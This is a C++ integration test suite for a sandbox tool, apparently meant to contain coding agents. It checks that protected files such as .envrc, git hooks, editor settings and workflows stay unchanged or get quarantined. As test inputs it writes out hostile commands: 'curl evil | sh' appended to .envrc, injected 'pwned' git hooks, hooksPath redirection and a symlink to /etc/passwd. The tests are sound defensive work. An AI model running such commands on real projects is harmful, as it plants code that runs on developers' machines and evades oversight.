// Protected files, git locks, quarantine and review in real sandboxes (PROT, GIT, REV, FS-10).
#include <dirent.h>
#include <sys/stat.h>
#include <unistd.h>

#include "harness.h"

namespace cordon::it {
namespace {

void commit_all(const World& w, const std::string& msg = "commit") {
  w.host({"git", "add", "-A"});
  w.host({"git", "commit", "-q", "-m", msg});
}

TEST(Protect, UntrackedEnvrcCannotBeChangedHoweverTheWriteIsSpelled) {  // PROT-2
  REQUIRE_SANDBOX();
  World w;
  w.write(".envrc", "export SAFE=1\n");
  for (const char* attempt :
       {"echo 'curl evil | sh' >> .envrc", ": > .envrc", "truncate -s 0 .envrc",
        "mv .envrc envrc.old", "rm -f .envrc", "echo x > tmp && mv -f tmp .envrc",
        "chmod 777 .envrc", "ln -f .envrc hard"}) {
    Proc r = w.sh(attempt);
    EXPECT_EQ(w.read(".envrc"), "export SAFE=1\n") << attempt << "\n" << r.err;
  }
  struct stat st;
  ASSERT_EQ(stat(w.abs(".envrc").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0644u);
  EXPECT_FALSE(w.exists("envrc.old"));
}

TEST(Protect, NewEnvrcIsMovedAsideWithItsContentIntact) {  // PROT-6, PROT-7
  REQUIRE_SANDBOX();
  World w;
  Proc r = w.sh("echo 'export PLANTED=1' > .envrc");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_FALSE(w.exists(".envrc"));
  auto q = quarantined(w.project(), ".envrc");
  ASSERT_EQ(q.size(), 1u);
  EXPECT_EQ(q[0].size(), std::string(".envrc.cordon-quarantined-").size() + 16);
  EXPECT_EQ(w.read(q[0]), "export PLANTED=1\n");
  EXPECT_NE(r.err.find(".envrc"), std::string::npos);
  EXPECT_NE(r.err.find(q[0]), std::string::npos) << r.err;
  // A planted symlink is moved, not followed.
  r = w.sh("ln -s /etc/passwd CLAUDE.md");
  EXPECT_FALSE(w.exists("CLAUDE.md"));
  auto ql = quarantined(w.project(), "CLAUDE.md");
  ASSERT_EQ(ql.size(), 1u);
  char buf[64] = {};
  EXPECT_GT(readlink(w.abs(ql[0]).c_str(), buf, sizeof buf - 1), 0);
  EXPECT_STREQ(buf, "/etc/passwd");
}

TEST(Protect, TrackedVscodeFileIsWritableNewFileMovedToTheRoot) {  // PROT-4, PROT-5, PROT-7
  REQUIRE_SANDBOX();
  World w;
  w.write(".vscode/settings.json", "{}\n");
  commit_all(w);
  w.write(".vscode/untracked.json", "local\n");
  Proc r = w.sh("echo '{\"x\":1}' > .vscode/settings.json && "
                "echo '{\"tasks\":[]}' > .vscode/tasks.json && "
                "(echo hacked > .vscode/untracked.json || true)");
  EXPECT_EQ(w.read(".vscode/settings.json"), "{\"x\":1}\n") << r.err;
  EXPECT_EQ(w.read(".vscode/untracked.json"), "local\n");
  EXPECT_FALSE(w.exists(".vscode/tasks.json"));
  auto q = quarantined(w.project(), "tasks.json");
  ASSERT_EQ(q.size(), 1u) << r.err;
  EXPECT_EQ(w.read(q[0]), "{\"tasks\":[]}\n");
}

TEST(Protect, UntrackedIdeaFolderIsReadOnlyWhole) {  // PROT-5
  REQUIRE_SANDBOX();
  World w;
  w.write(".idea/workspace.xml", "<x/>\n");
  Proc r = w.sh("echo bad > .idea/workspace.xml; echo new > .idea/new.xml; mkdir .idea/sub; "
                "rm -rf .idea");
  EXPECT_EQ(w.read(".idea/workspace.xml"), "<x/>\n");
  EXPECT_FALSE(w.exists(".idea/new.xml"));
  EXPECT_FALSE(w.exists(".idea/sub"));
  EXPECT_NE(r.err.find("Read-only file system"), std::string::npos) << r.err;
}

TEST(Protect, NewWorkflowIsMovedAside) {  // PROT-6
  REQUIRE_SANDBOX();
  World w;
  Proc r = w.sh("mkdir -p .github/workflows && echo 'on: push' > .github/workflows/x.yml");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_FALSE(w.exists(".github/workflows"));
  auto q = quarantined(w.abs(".github"), "workflows");
  ASSERT_EQ(q.size(), 1u);
  EXPECT_EQ(w.read(".github/" + q[0] + "/x.yml"), "on: push\n");
}

TEST(Protect, NewClaudeHoldingOnlyWorktreesIsKept) {  // PROT-1
  REQUIRE_SANDBOX();
  World w;
  Proc r = w.sh("git worktree add -q .claude/worktrees/feature -b feature");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_TRUE(w.exists(".claude/worktrees/feature/README.md"));
  // Writable inside, next time too.
  r = w.sh("echo change >> .claude/worktrees/feature/README.md");
  EXPECT_EQ(r.status, 0) << r.err;
  r = w.sh("echo '{}' > .claude/settings.json");
  EXPECT_FALSE(w.exists(".claude/settings.json"));
}

TEST(Protect, GitHooksAndConfigCannotChangeButAddAndCommitWork) {  // GIT-1
  REQUIRE_SANDBOX();
  World w;
  std::string config_before = w.read(".git/config");
  Proc r = w.sh("git config core.hooksPath /tmp/hooks");
  EXPECT_NE(r.status, 0);
  EXPECT_NE(r.err.find("config"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("cordon: note:"), std::string::npos) << r.err;
  EXPECT_EQ(w.read(".git/config"), config_before);
  r = w.sh("echo 'echo pwned' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit");
  EXPECT_FALSE(w.exists(".git/hooks/pre-commit"));
  // Even a tracked or pre-existing hook stays as it is.
  w.write(".git/hooks/post-commit", "#!/bin/sh\necho original\n", 0755);
  r = w.sh("echo 'echo pwned' >> .git/hooks/post-commit");
  EXPECT_EQ(w.read(".git/hooks/post-commit"), "#!/bin/sh\necho original\n");
  // git add and git commit keep working.
  r = w.sh("echo feature > feature.txt && git add feature.txt && git commit -q -m feature && "
           "git log --oneline | wc -l");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out.find("2"), 0u) << r.out;
  Proc log = w.host({"git", "log", "--format=%s", "-1"});
  EXPECT_EQ(log.out, "feature\n");
}

TEST(Protect, HooksPathAndIncludedConfigInAWritablePathAreReadOnly) {  // GIT-1
  REQUIRE_SANDBOX();
  World w;
  w.write(w.home() + "/.config/tools/hooks/pre-commit", "#!/bin/sh\n", 0755);
  w.write(w.home() + "/.config/tools/extra.gitconfig", "[user]\n\tname = Extra\n");
  w.write(w.home() + "/.config/tools/other.txt", "writable\n");
  w.host({"git", "config", "core.hooksPath", w.home() + "/.config/tools/hooks"});
  w.host({"git", "config", "include.path", w.home() + "/.config/tools/extra.gitconfig"});
  w.config("[sandbox]\nwritable = [\"~/.config/tools\"]\n");
  Proc r = w.sh("echo x >> \"$HOME/.config/tools/other.txt\"; "
                "echo 'curl evil' >> \"$HOME/.config/tools/hooks/pre-commit\"; "
                "echo '[core]' >> \"$HOME/.config/tools/extra.gitconfig\"; "
                "touch \"$HOME/.config/tools/hooks/post-checkout\"");
  EXPECT_EQ(w.read(w.home() + "/.config/tools/other.txt"), "writable\nx\n") << r.err;
  EXPECT_EQ(w.read(w.home() + "/.config/tools/hooks/pre-commit"), "#!/bin/sh\n");
  EXPECT_EQ(w.read(w.home() + "/.config/tools/extra.gitconfig"), "[user]\n\tname = Extra\n");
  EXPECT_FALSE(w.exists(w.home() + "/.config/tools/hooks/post-checkout"));
}

TEST(Protect, NewCommondirIsMovedAside) {  // GIT-3
  REQUIRE_SANDBOX();
  World w;
  Proc r = w.sh("echo /tmp/other > .git/commondir");
  EXPECT_FALSE(w.exists(".git/commondir")) << r.err;
  auto q = quarantined(w.abs(".git"), "commondir");
  EXPECT_EQ(q.size(), 1u);
  Proc st = w.host({"git", "status", "--porcelain"});
  EXPECT_EQ(st.status, 0) << st.err;
}

TEST(Protect, GitStatusInsideShowsNothingCordonMade) {  // PROT-10
  REQUIRE_SANDBOX();
  World w;
  w.write(".envrc", "x\n");
  w.write(".vscode/settings.json", "{}\n");
  w.host({"git", "add", ".vscode/settings.json"});
  w.host({"git", "commit", "-q", "-m", "vscode"});
  w.write(".vscode/local.json", "{}\n");
  Proc outside = w.host({"git", "status", "--porcelain", "--ignored"});
  Proc inside = w.sh("git status --porcelain --ignored");
  EXPECT_EQ(inside.status, 0) << inside.err;
  EXPECT_EQ(inside.out, outside.out);
  Proc after = w.host({"git", "status", "--porcelain", "--ignored"});
  EXPECT_EQ(after.out, outside.out);
}

TEST(Protect, SymlinkedGitFolderIsFollowed) {  // GIT-2
  REQUIRE_SANDBOX();
  World w;
  std::string real = w.root() + "/real.git";
  ASSERT_EQ(rename(w.abs(".git").c_str(), real.c_str()), 0);
  ASSERT_EQ(symlink(real.c_str(), w.abs(".git").c_str()), 0);
  Proc r = w.sh("echo 'echo pwned' > .git/hooks/pre-commit; echo x > f && git add f && "
                "git commit -q -m f && echo committed");
  EXPECT_NE(r.out.find("committed"), std::string::npos) << r.err;
  EXPECT_FALSE(w.exists(real + "/hooks/pre-commit"));
  // GIT-6: re-pointing the link gets a note.
  r = w.sh("rm .git && ln -s /tmp .git");
  EXPECT_NE(r.err.find("which leads to files git runs code from"), std::string::npos) << r.err;
}

TEST(Protect, WorktreeOutsideTheProjectCanCommitButNotChangeHooks) {  // GIT-2
  REQUIRE_SANDBOX();
  World w;
  std::string wt = w.root() + "/wt";
  w.host({"git", "worktree", "add", "-q", wt, "-b", "wt"});
  Proc r = w.cordon({"run", "--", "/bin/sh", "-c",
                     "echo y > y && git add y && git commit -q -m y && echo committed; "
                     "echo pwned > \"$(git rev-parse --git-common-dir)/hooks/pre-commit\""},
                    wt);
  EXPECT_NE(r.out.find("committed"), std::string::npos) << r.err;
  EXPECT_FALSE(w.exists(".git/hooks/pre-commit"));
}

TEST(Protect, CheckoutStoppedShortNamesTheFiles) {  // GIT-7
  REQUIRE_SANDBOX();
  World w;
  w.host({"git", "checkout", "-q", "-b", "feature"});
  w.write(".idea/project.xml", "<p/>\n");
  commit_all(w, "idea");
  w.host({"git", "checkout", "-q", "main"});
  w.host({"git", "clean", "-fdxq"});
  w.write(".idea/workspace.xml", "<local/>\n");  // untracked here: read-only whole
  Proc r = w.cordon({"run", "--", "git", "checkout", "feature"});
  EXPECT_NE(r.err.find("because the sandbox keeps it read-only"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("git checkout -- .idea/project.xml"), std::string::npos) << r.err;
}

TEST(Protect, UnreadableFolderIsReadOnlyForTheRestOfTheSession) {  // FS-10
  REQUIRE_SANDBOX();
  World w;
  w.write(".vscode/settings.json", "{}\n");
  commit_all(w);
  Proc r = w.cordon(
      {"run", "--session", "00000000000000f1", "--", "/bin/sh", "-c", "chmod 000 .vscode"});
  EXPECT_NE(r.err.find("read-only for the rest of this session"), std::string::npos) << r.err;
  chmod(w.abs(".vscode").c_str(), 0755);
  r = w.cordon({"run", "--session", "00000000000000f1", "--", "/bin/sh", "-c",
                "echo changed > .vscode/settings.json"});
  EXPECT_EQ(w.read(".vscode/settings.json"), "{}\n") << r.err;
}

TEST(Protect, ProtectedLinkToTheProjectRefuses) {  // PROT-8
  REQUIRE_SANDBOX();
  World w;
  ASSERT_EQ(symlink(".", w.abs(".claude").c_str()), 0);
  Proc r = w.sh("echo ran");
  EXPECT_EQ(r.status, 125);
  EXPECT_EQ(r.out, "");
  EXPECT_NE(r.err.find(".claude"), std::string::npos) << r.err;
  unlink(w.abs(".claude").c_str());
  EXPECT_EQ(w.sh("echo ran").status, 0);
}

TEST(Protect, FailedMoveRefusesLaterCommandsUntilMoved) {  // PROT-7
  REQUIRE_SANDBOX();
  World w;
  Proc r = w.sh("mkdir -p .github/workflows && echo x > .github/workflows/a.yml && "
                "chmod 555 .github");
  chmod(w.abs(".github").c_str(), 0755);
  if (geteuid() == 0) {
    // Root renames inside a read-only folder anyway: the move succeeds.
    EXPECT_FALSE(w.exists(".github/workflows")) << r.err;
    return;
  }
  EXPECT_TRUE(w.exists(".github/workflows"));
  EXPECT_NE(r.err.find("could not move it aside"), std::string::npos) << r.err;
  r = w.sh("echo ran");
  EXPECT_EQ(r.status, 125);
  EXPECT_NE(r.err.find(".github/workflows"), std::string::npos) << r.err;
  w.host({"/bin/mv", w.abs(".github/workflows"), w.root() + "/moved-by-user"});
  EXPECT_EQ(w.sh("echo ran").status, 0);
}

TEST(Review, ListsChangesAddedFilesAndFilesHiddenByANewIgnoreRule) {  // REV-1
  REQUIRE_SANDBOX();
  World w;
  w.write(".gitignore", "*.log\n");
  w.write("old.log", "ignored from the start\n");
  commit_all(w);
  Proc r = w.cordon({"review", "start"});
  ASSERT_EQ(r.status, 0) << r.err;
  w.sh("echo more >> README.md && echo new > added.txt && echo '*.secret' >> .gitignore && "
       "echo s > hidden.secret && echo x >> old.log && git add added.txt");
  r = w.cordon({"review"});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_NE(r.out.find("M README.md"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("M .gitignore"), std::string::npos);
  EXPECT_NE(r.out.find("added.txt"), std::string::npos);
  EXPECT_NE(r.out.find("hidden.secret"), std::string::npos);
  EXPECT_EQ(r.out.find("old.log"), std::string::npos);
  EXPECT_NE(r.out.find("cannot see"), std::string::npos);
  EXPECT_NE(r.out.find("submodules"), std::string::npos);
  // A replace ref stops the review loudly.
  Proc head = w.host({"git", "rev-parse", "HEAD"});
  std::string h = head.out.substr(0, 40);
  w.host({"git", "update-ref", "refs/replace/" + h, h});
  r = w.cordon({"review"});
  EXPECT_NE(r.status, 0);
  EXPECT_NE(r.out.find("STOP"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("refs/replace/" + h), std::string::npos);
}

TEST(Policy, ShowsProtectedPathsAndGitFilesWithTheirState) {  // CFG-6
  REQUIRE_SANDBOX();
  World w;
  w.write(".envrc", "x\n");
  w.write(".vscode/settings.json", "{}\n");
  commit_all(w);
  w.write(".idea/a.xml", "x");
  Proc r = w.cordon({"policy"});
  EXPECT_EQ(r.status, 0) << r.err;
  for (const char* s : {"writable (tracked)", "read-only whole", "watched (absent)", "locked",
                        ".git/hooks", "mounts:"})
    EXPECT_NE(r.out.find(s), std::string::npos) << s << "\n" << r.out;
  r = w.cordon({"policy", "--json"});
  EXPECT_NE(r.out.find("\"protected\""), std::string::npos);
  EXPECT_NE(r.out.find("\"mount_count\""), std::string::npos);
}

}  // namespace
}  // namespace cordon::it
